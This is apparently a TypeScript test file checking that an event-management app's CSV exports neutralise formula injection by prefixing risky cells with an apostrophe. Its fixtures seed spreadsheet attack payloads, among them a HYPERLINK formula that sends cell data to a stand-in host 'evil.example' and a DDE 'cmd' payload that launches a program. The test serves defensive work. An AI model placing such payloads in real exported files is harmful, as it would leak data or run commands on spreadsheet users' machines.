import { parse as parseSync } from 'csv-parse/sync';
import { book, demoParties, insertMeeting } from './reports-fixtures';
import { createTestApp, TestApp } from './support/test-app';

/**
 * CSV (formula) injection: anything a registrant types — a firm name, a city, an offer
 * title, a person's name — must reach the bureau's spreadsheet as text, never as a
 * formula. Every formula-leading cell is prefixed with an apostrophe.
 */
describe('CSV exports escape formula-leading cells', () => {
  let t: TestApp;
  let editionId: string;

  const csv = async (path: string) => {
    const res = await t.http
      .get(path)
      .set(await t.as('bureau@demo.test'))
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    return parseSync(res.body as Buffer, { bom: true, columns: true }) as Record<string, string>[];
  };

  beforeAll(async () => {
    t = await createTestApp('csv_injection');
    editionId = (await t.http.get('/api/events').set(await t.as('bureau@demo.test'))).body[0].id;
    const p = await demoParties(t);
    await t.db.query(`UPDATE organizations SET name_ja = '=HYPERLINK("http://evil.example/?x="&A1)', city = $2 WHERE id = $1`, [p.jp[0], "+cmd|'/C calc'!A0"]);
    await t.db.query(`UPDATE organizations SET name_zh = '-2+3', city = '@SUM(1+1)*cmd' WHERE id = $1`, [p.cn[0]]);
    const [offer] = await t.db.query(
      `UPDATE offers SET title_zh = '=1+1', title_ja = '\t=1+1' WHERE id = (SELECT id FROM offers WHERE organization_id = $1 LIMIT 1) RETURNING id`,
      [p.cn[0]],
    );
    const id = await insertMeeting(t, editionId, {
      jp: p.jp[0],
      cn: p.cn[0],
      sector: 'health',
      status: 'scheduled',
      createdAt: '2027-03-01T02:00:00Z',
      published: true,
      offerId: offer[0]?.id ?? null,
    });
    await book(t, id, 'health', 0, 0, 1);
    await t.db.query(`UPDATE users SET full_name = '@SUM(A1:A9)' WHERE email = 'bureau@demo.test'`);
    await t.db.query(`INSERT INTO audit_log (actor_id, action, entity, entity_id, edition_id, details) VALUES ($1, 'test.action', 'meeting', $2, $3, '{}')`, [
      p.bureauId,
      id,
      editionId,
    ]);
  });
  afterAll(() => t.close());

  it('meetings.csv: firm names and offer titles', async () => {
    const rows = await csv(`/api/events/${editionId}/exports/meetings.csv`);
    const row = rows.find((r) => r['japanese_firm_ja'].includes('HYPERLINK'))!;
    expect(row['japanese_firm_ja']).toBe(`'=HYPERLINK("http://evil.example/?x="&A1)`);
    expect(row['jinan_company_zh']).toBe(`'-2+3`);
    expect(row['offer_title_zh']).toBe(`'=1+1`);
    expect(row['offer_title_ja']).toBe(`'\t=1+1`);
  });

  it('organizations.csv: names and cities', async () => {
    const rows = await csv(`/api/events/${editionId}/exports/organizations.csv`);
    expect(rows.find((r) => r['name_ja']?.includes('HYPERLINK'))).toMatchObject({ city: `'+cmd|'/C calc'!A0` });
    expect(rows.find((r) => r['name_zh'] === `'-2+3`)).toMatchObject({ city: `'@SUM(1+1)*cmd` });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('audit.csv: a person named like a formula', async () => {
    const rows = await csv(`/api/events/${editionId}/audit.csv`);
    expect(rows.find((r) => r['action'] === 'test.action')).toMatchObject({ actor_name: `'@SUM(A1:A9)` });
  });
});
